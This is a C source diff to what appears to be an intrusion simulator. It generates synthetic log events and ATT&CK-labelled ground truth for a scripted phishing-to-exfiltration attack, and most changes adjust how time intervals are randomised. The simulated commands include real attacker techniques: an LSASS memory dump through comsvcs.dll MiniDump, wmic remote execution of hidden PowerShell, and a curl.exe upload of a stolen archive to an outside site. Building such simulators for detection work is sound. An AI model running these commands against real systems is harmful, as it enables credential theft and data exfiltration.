@@ -24,7 +24,8 @@ static struct host *victim(const struct world *world, unsigned turn)
     uint32_t at = (uint32_t)(random_mix(world->seed, 0x76696374u + turn) % pcs);
     for (uint32_t i = 0; i < pcs; i++) {
         struct host *host = &enterprise->hosts[enterprise->server_count + (at + i) % pcs];
-        if (host->department == wanted[turn] && host->joined == 0)
+        /* the last PC is the new employee's, who knows nobody yet */
+        if (host->department == wanted[turn] && host->index + 1 < enterprise->host_count)
             return host;
     }
     return &enterprise->hosts[enterprise->server_count + 1 + turn];
@@ -117,7 +118,7 @@ static void phish(struct intrusion *in, int64_t time)
                                        .command = opened},
                         1500, seat->to - 20 * TIME_SECOND);
     truth_step(in->truth, world, time, word, "T1566.001", "a document from a mail is opened");
-    time += random_between(&world->random, 20, 70) * TIME_SECOND;
+    time += random_between(&world->random, 20 * TIME_SECOND, 70 * TIME_SECOND);
     in->shell = shell_run(in,
                           (struct start){.host = in->first,
                                          .program = PROGRAM_POWERSHELL,
@@ -154,7 +155,7 @@ static void discover(struct intrusion *in, int64_t time)
             continue;
         uint32_t slot = command_run(in, in->shell, looks[i].program, time, looks[i].command);
         truth_step(in->truth, in->world, time, slot, looks[i].technique, looks[i].what);
-        time += random_between(&in->world->random, 8, 240) * TIME_SECOND;
+        time += random_between(&in->world->random, 8 * TIME_SECOND, 240 * TIME_SECOND);
     }
 }
 
@@ -237,7 +238,7 @@ static void steal_credentials(struct intrusion *in, int64_t time)
     snprintf(command, sizeof command,
              "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump %u %s full",
              world->processes[lsass].pid, dump);
-    time += random_between(&world->random, 4, 15) * TIME_MINUTE;
+    time += random_between(&world->random, 4 * TIME_MINUTE, 15 * TIME_MINUTE);
     uint32_t dumper = command_run(in, in->elevated, PROGRAM_RUNDLL32, time, command);
     event_module(world, dumper, time + 40000000, "C:\\Windows\\System32\\comsvcs.dll");
     event_access(world, dumper, time + 60000000, lsass, "0x1fffff");
@@ -273,7 +274,7 @@ static void move_to_pc(struct intrusion *in, int64_t time)
                "with an administrator's account to another PC's disk");
     event_file(world, host_running(to, PROGRAM_SYSTEM, time), time + 30 * TIME_SECOND,
                EVENT_FILE_CREATE, script);
-    time += random_between(&world->random, 60, 300) * TIME_SECOND;
+    time += random_between(&world->random, 60 * TIME_SECOND, 300 * TIME_SECOND);
     snprintf(start_script, sizeof start_script, "powershell.exe -NoP -W Hidden -File %s", script);
     snprintf(command, sizeof command, "wmic /node:%s process call create \"%s\"", to->name,
              start_script);
@@ -291,7 +292,7 @@ static void move_to_pc(struct intrusion *in, int64_t time)
                                  in->second_shift->leaves - TIME_MINUTE);
     truth_step(in->truth, world, time + 700000000, in->second_shell, "T1059.001",
                "a shell on the second PC");
-    time += random_between(&world->random, 3, 9) * TIME_MINUTE;
+    time += random_between(&world->random, 3 * TIME_MINUTE, 9 * TIME_MINUTE);
     char service[48];
     snprintf(service, sizeof service, "%sSvc", in->name);
     event_service(world, to, time, service, start_script);
@@ -321,7 +322,7 @@ static void collect(struct intrusion *in, int64_t time, char archive[64])
     truth_step(in->truth, world, time, in->target_shell, "T1021.006",
                "remote management opens a shell on a development server");
     command_run(in, in->target_shell, PROGRAM_WHOAMI, time + 20 * TIME_SECOND, "whoami");
-    time += random_between(&world->random, 6, 14) * TIME_MINUTE;
+    time += random_between(&world->random, 6 * TIME_MINUTE, 14 * TIME_MINUTE);
     snprintf(archive, 64, "C:\\Windows\\Temp\\%s%04x.tgz", in->name,
              random_below(&world->random, 0x10000));
     char command[160];
@@ -353,7 +354,7 @@ static void steal(struct intrusion *in, int64_t time, const char *archive)
                EVENT_FILE_ACCESS, archive);
     event_file(world, in->second_shell, time + 300000000, EVENT_FILE_CREATE, local);
     truth_step(in->truth, world, time, in->second_shell, "T1570", "the archive is fetched");
-    time += random_between(&world->random, 5, 16) * TIME_MINUTE;
+    time += random_between(&world->random, 5 * TIME_MINUTE, 16 * TIME_MINUTE);
     struct buffer site = {0};
     text_put_site(&site, in->site);
     snprintf(command, sizeof command, "curl.exe -s -x http://%s:8080 -T %s https://%.*s/u/",
@@ -395,17 +396,19 @@ void attack_run(struct world *world, const struct shift *shifts, struct truth *t
     in.shift = &shifts[in.first->index];
     in.second_shift = &shifts[in.second->index];
     world->intruder = true;
-    int64_t time = day + 10 * TIME_HOUR + random_between(&world->random, 0, 35) * TIME_MINUTE;
+    int64_t time =
+        day + 10 * TIME_HOUR + random_between(&world->random, 0 * TIME_MINUTE, 35 * TIME_MINUTE);
     phish(&in, time);
-    discover(&in, time + random_between(&world->random, 6, 15) * TIME_MINUTE);
-    persist(&in, time + random_between(&world->random, 35, 60) * TIME_MINUTE);
+    discover(&in, time + random_between(&world->random, 6 * TIME_MINUTE, 15 * TIME_MINUTE));
+    persist(&in, time + random_between(&world->random, 35 * TIME_MINUTE, 60 * TIME_MINUTE));
     come_back(&in);
-    time = day + 13 * TIME_HOUR + random_between(&world->random, 45, 65) * TIME_MINUTE;
+    time =
+        day + 13 * TIME_HOUR + random_between(&world->random, 45 * TIME_MINUTE, 65 * TIME_MINUTE);
     steal_credentials(&in, time);
-    time += random_between(&world->random, 30, 50) * TIME_MINUTE;
+    time += random_between(&world->random, 30 * TIME_MINUTE, 50 * TIME_MINUTE);
     move_to_pc(&in, time);
-    time += random_between(&world->random, 25, 40) * TIME_MINUTE;
+    time += random_between(&world->random, 25 * TIME_MINUTE, 40 * TIME_MINUTE);
     collect(&in, time, archive);
-    steal(&in, time + random_between(&world->random, 35, 50) * TIME_MINUTE, archive);
+    steal(&in, time + random_between(&world->random, 35 * TIME_MINUTE, 50 * TIME_MINUTE), archive);
     world->intruder = false;
 }
